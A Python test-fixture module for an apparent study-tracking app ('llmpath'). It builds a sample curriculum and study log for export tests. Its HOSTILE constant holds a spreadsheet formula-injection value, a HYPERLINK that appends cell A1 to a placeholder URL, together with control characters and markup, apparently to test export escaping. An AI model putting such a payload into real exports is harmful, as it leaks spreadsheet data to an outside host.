"""A small study with everything that an export shows."""

from __future__ import annotations

from datetime import timedelta

from llmpath.core.curriculum import Curriculum
from llmpath.core.events import LessonsSkipped, NoteAdded, StudyLogged
from llmpath.exchange.entries import Entry, make_entries
from tests.builders import a_curriculum, a_lesson, a_module, a_track
from tests.strategies import MONDAY, Study, a_study

HOSTILE = '=HYPERLINK("http://e/?"&A1,"ok"), \u202e\x1b[31m\r\n| `x` <b>*[y](z)*'
SCORES = "llmpath:attention/scores"
HEADS = "llmpath:attention/heads"
MASKS = "llmpath:attention/masks"
BPE = "llmpath:tokens/bpe"


def small_curriculum(title: str = "Scores, and softmax") -> Curriculum:
    """Two modules in a track; one of the second's lessons is optional."""
    attention = a_module(
        "attention",
        [
            a_lesson(SCORES, 30, title=title),
            a_lesson(HEADS, 45, title="Many heads"),
            a_lesson(MASKS, 20, title="Masks", optional=True),
        ],
    )
    tokens = a_module("tokens", [a_lesson(BPE, 60, title="Byte pairs")])
    other = a_module("other", 1)
    track = a_track("road", [tokens, attention], phases=2)
    return a_curriculum([track], [attention, tokens, other])


def small_study(curriculum: Curriculum, note: str = "seen twice") -> Study:
    """Tokens done on Monday, scores begun, heads skipped; two notes."""
    study = a_study(curriculum, 30).accept().done(BPE)
    return study.then(
        StudyLogged(SCORES, 10),
        LessonsSkipped((HEADS,), known=False),
        NoteAdded(SCORES, note),
        NoteAdded("llmpath:attention", "bring paper"),
    ).on(MONDAY + timedelta(days=1))


def entries_of(study: Study) -> list[Entry]:
    """The entries of a study with its plan."""
    return list(make_entries(study.situation, study.plan))
